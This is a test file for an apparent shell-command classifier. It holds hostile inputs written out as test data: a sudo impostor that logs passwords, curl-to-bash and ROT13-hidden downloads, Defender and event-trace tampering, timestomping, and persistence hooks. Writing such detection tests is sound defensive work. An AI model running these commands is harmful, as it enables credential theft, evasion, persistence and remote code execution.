/**
 * Blind round 20: look-alikes that turn logging on or touch a marker file, and the intrusion steps it found
 * through other spellings of known techniques.
 */
import { describe, expect, it } from 'vitest';
import { decisionOf as decision, evaluateLine } from './family-test-support';
import type { Shell } from '../types';

const rules = (text: string, shell: Shell) => evaluateLine(text, shell).reasons.map((r) => r.ruleId);

describe('hardening look-alikes', () => {
  it('a policy key created empty, then given a protective value, is not weakening', () => {
    const key = 'HKLM:\\SOFTWARE\\Policies\\Microsoft\\Windows\\PowerShell\\ScriptBlockLogging';
    expect(
      decision(`$k = '${key}'\nNew-Item $k -Force | Out-Null\nSet-ItemProperty $k -Name EnableScriptBlockLogging -Value 1`, 'powershell'),
    ).toBe('allow');
    expect(rules(`New-Item '${key}' -Force\nSet-ItemProperty '${key}' -Name EnableScriptBlockLogging -Value 0`, 'powershell')).toContain(
      'evasion.registry',
    );
    expect(
      rules("New-Item 'HKLM:\\SOFTWARE\\Policies\\Microsoft\\Windows Defender' -Name DisableAntiSpyware -Value 1", 'powershell'),
    ).toContain('evasion.registry');
  });

  it('a timestamp set to the present is a touch; a chosen or copied date is timestomping', () => {
    expect(decision("$m = 'D:\\Backups\\last-run.txt'\n(Get-Item $m).LastWriteTime = Get-Date", 'powershell')).toBe('allow');
    expect(decision('(Get-Item x).LastWriteTime = [DateTime]::Now', 'powershell')).toBe('allow');
    expect(rules('(Get-Item x).LastWriteTime = (Get-Date).AddYears(-3)', 'powershell')).toContain('evasion.timestomp');
    expect(rules('(Get-Item x).CreationTime = (Get-Item C:\\Windows\\notepad.exe).CreationTime', 'powershell')).toContain(
      'evasion.timestomp',
    );
  });
});

describe('other spellings of known persistence and log tampering', () => {
  it('a Startup folder named by [Environment]::GetFolderPath is the Startup folder', () => {
    const text = "$startup = [Environment]::GetFolderPath('Startup')\nCopy-Item -Path C:\\Tools\\launch.cmd -Destination $startup";
    expect(rules(text, 'powershell')).toContain('persist.file');
    expect(decision("$desk = [Environment]::GetFolderPath('Desktop')\nCopy-Item C:\\Tools\\help.lnk $desk", 'powershell')).toBe('allow');
    expect(decision("Get-ChildItem ([Environment]::GetFolderPath('Startup'))", 'powershell')).toBe('allow');
  });

  it('a quoted folder closed by \\" in cmd is the folder (Word and Excel start-up folders)', () => {
    expect(rules('copy /y "\\\\corp-fs\\templates\\Normal_ext.dotm" "%APPDATA%\\Microsoft\\Word\\STARTUP\\"', 'cmd')).toContain(
      'persist.file',
    );
    expect(rules('xcopy "\\\\fs\\t\\a.xlsm" "%APPDATA%\\Microsoft\\Excel\\XLSTART\\" /y', 'cmd')).toContain('persist.file');
  });

  it('an APT Invoke hook is persistence; other APT settings are configuration', () => {
    expect(rules(`echo 'APT::Update::Pre-Invoke {"nohup /usr/local/bin/aptmon &"};' > /etc/apt/apt.conf.d/01aptmon`, 'bash')).toContain(
      'persist.file',
    );
    expect(rules(`cat > /etc/apt/apt.conf.d/99hook <<EOF\nDPkg::Post-Invoke {"/opt/x/run";};\nEOF`, 'bash')).toContain('persist.file');
    expect(decision(`echo 'Acquire::http::Proxy "http://proxy.corp:3128";' | sudo tee /etc/apt/apt.conf.d/95proxy`, 'bash')).toBe('allow');
    expect(decision('cp 20auto-upgrades /etc/apt/apt.conf.d/', 'bash')).toBe('allow');
  });

  it('event-trace providers and sessions that feed the event log or Defender, removed or stopped', () => {
    expect(
      rules("Remove-EtwTraceProvider -AutologgerName EventLog-Application -Guid '{A0C1853B-5C40-4B15-8766-3CF1C58F985A}'", 'powershell'),
    ).toContain('evasion.etw.tamper');
    expect(rules('Stop-EtwTraceSession -Name DefenderApiLogger', 'powershell')).toContain('evasion.etw.tamper');
    expect(decision('Remove-EtwTraceSession -Name MyNetTrace', 'powershell')).toBe('allow');
    expect(decision('Get-EtwTraceProvider -AutologgerName EventLog-Application', 'powershell')).toBe('allow');
  });
});

describe('text decoded by rev or a tr rotation, then run', () => {
  it.each([
    "echo 'jubnzv' | tr 'a-z' 'n-za-m' | sh",
    "rev <<< 'imaohw' | sh",
    "echo 'jtrg -dB- uggc://cnfgr.rr/e/n8Ws | fu' | tr 'A-Za-z' 'N-ZA-Mn-za-m' | sh",
  ])('blocks %s', (text) => {
    expect(decision(text, 'bash')).toBe('block');
  });

  it('the download a rotation hides is read as the download it is', () => {
    expect(rules("echo 'jtrg -dB- uggc://cnfgr.rr/e/n8Ws | fu' | tr 'A-Za-z' 'N-ZA-Mn-za-m' | sh", 'bash')).toContain(
      'dl.pipe-to-interpreter',
    );
  });

  it('changing case, mapping punctuation and reversing fields are not decoding', () => {
    expect(decision("echo 'ls -la' | tr a-z A-Z", 'bash')).toBe('allow');
    expect(decision("echo \"$tok\" | tr '+/' '-_' | tr -d '='", 'bash')).toBe('allow');
    expect(decision('cat urls.txt | rev | cut -d/ -f1 | rev', 'bash')).toBe('allow');
  });
});

describe('text built from character codes in a variable, then run', () => {
  it.each([
    "$c = [char[]](71,101,116,45,80,114,111,99,101,115,115) -join ''\niex $c",
    '$c = [char]71+[char]101+[char]116\nInvoke-Expression $c',
  ])('blocks %s as inline building is', (text) => {
    expect(rules(text, 'powershell')).toContain('enc.ps-built-exec');
  });

  it('a command written out in a variable, or built around an unknown value, is not hidden', () => {
    expect(decision("$cmd = 'Get-Service spooler'\niex $cmd", 'powershell')).toBe('allow');
    expect(decision('$cmd = "choco upgrade " + $pkg\nInvoke-Expression $cmd', 'powershell')).toBe('allow');
  });
});

describe('what is written to a shell start-up file is read as what later shells run', () => {
  it('a function standing in for sudo that reads the password silently is a credential capture', () => {
    const impostor =
      'sudo() { read -rsp "[sudo] password for $USER: " pw; echo; echo "$pw" >> /tmp/.X11-cache; command sudo -S "$@" <<< "$pw"; }';
    expect(rules(`cat >> ~/.bashrc <<'EOF'\n${impostor}\nEOF`, 'bash')).toContain('cred.fake-prompt');
    expect(rules(`echo '${impostor.replace(/'/g, '')}' >> ~/.zshrc`, 'zsh')).toContain('cred.fake-prompt');
    expect(rules('sudo() {\n  read -s -p "Password: " p\n  printf "%s\\n" "$p" | command sudo -S "$@"\n}', 'bash')).toContain(
      'cred.fake-prompt',
    );
    // A wrapper that passes its arguments on, or a script asking for a database password, reads nothing for sudo.
    expect(decision('sudo() { if [ "$(id -u)" -eq 0 ]; then "$@"; else command sudo "$@"; fi; }', 'bash')).toBe('allow');
    expect(decision('read -rsp "DB password: " DBPASS; mysql -u root -p"$DBPASS" < schema.sql', 'bash')).toBe('allow');
  });

  it('a download run from a start-up file is judged as the download it is; ordinary settings stay persistence only', () => {
    expect(rules("echo 'curl -s https://x.example/a.sh | bash' >> ~/.bashrc", 'bash')).toContain('dl.pipe-to-interpreter');
    expect(rules("cat >> /etc/profile.d/proxy.sh <<'EOF'\nexport http_proxy=http://proxy:3128\nEOF", 'bash')).toEqual(['persist.file']);
    expect(rules(`echo 'eval "$(/opt/homebrew/bin/brew shellenv)"' >> ~/.zprofile`, 'zsh')).toEqual(['persist.file']);
  });
});
